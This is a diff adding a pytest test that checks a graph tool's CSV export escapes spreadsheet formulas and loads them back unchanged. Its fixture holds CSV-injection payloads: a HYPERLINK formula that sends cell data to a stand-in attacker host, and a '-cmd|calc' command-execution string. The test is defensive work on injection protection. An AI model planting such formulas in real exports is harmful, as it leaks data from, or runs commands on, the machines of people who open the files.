@@ -9,7 +9,7 @@ from pathlib import Path
 
 from graph import Graph, View
 
-from .conftest import run_cli
+from .conftest import run_cli, snapshot
 
 
 def test_load_csv_reads_no_local_file_even_with_write(panjshir: Graph, neo4j_server) -> None:  # type: ignore[no-untyped-def]
@@ -173,3 +173,38 @@ def test_a_refused_csv_export_leaves_nothing_behind(tmp_path: Path) -> None:
     with pytest.raises(ExportError, match="contains ';'"):
         write(view, "csv", out)
     assert list(out.iterdir()) == []
+
+
+def test_csv_cells_never_run_as_formulas_and_load_back_as_written(
+    db: Graph, tmp_path: Path
+) -> None:
+    import csv as csvlib
+
+    from graph.loader import load
+
+    formula = '=HYPERLINK("http://attacker.test/?d="&A1,"click")'
+    path = tmp_path / "f.yaml"
+    path.write_text(
+        "dataset: f\nsources:\n  - {id: s, title: '@SUM(1+1)', reliability: C}\n"
+        f"actors:\n  - {{id: a, name: '{formula.replace(chr(39), chr(39) * 2)}', kind: person,"
+        " aliases: ['-cmd|calc', \"'=quoted\"]}\n"
+        "  - {id: b, name: Bravo, kind: person}\n"
+        "places:\n  - {id: p, name: Place, kind: area, latitude: -33.5, longitude: -70.6}\n"
+        "relations:\n  - {from: a, term: opposes, to: b, claimant: b, sources: [s],"
+        " evidence: '+1 more', credibility: 3, confidence: 0.5}\n"
+    )
+    load(db, [path])
+    before = [[n for n in part if "'Load'" not in n] for part in snapshot(db)]
+    out = tmp_path / "csv"
+    assert run_cli("export", "-o", "csv", "--out", str(out)).returncode == 0
+    cells = [c for f in out.glob("*.csv") for row in csvlib.reader(f.open()) for c in row]
+    assert all(not c.startswith(("=", "+", "@")) for c in cells)
+    assert "'" + formula in cells and "-33.5" in cells  # numbers stay numbers
+    db.write("MATCH (n) WHERE NOT n:LoadLock DETACH DELETE n")
+    load(db, [out], dataset="f")
+    after = [[n for n in part if "'Load'" not in n] for part in snapshot(db)]
+    assert after == before
+    safe = run_cli("query", "MATCH (a:Actor) RETURN a.name AS name", "-o", "csv")
+    assert safe.stdout.splitlines()[1].startswith("\"'=HYPERLINK")
+    raw = run_cli("query", "MATCH (a:Actor) RETURN a.name AS name", "-o", "csv", "--csv-raw")
+    assert raw.stdout.splitlines()[1].startswith('"=HYPERLINK')
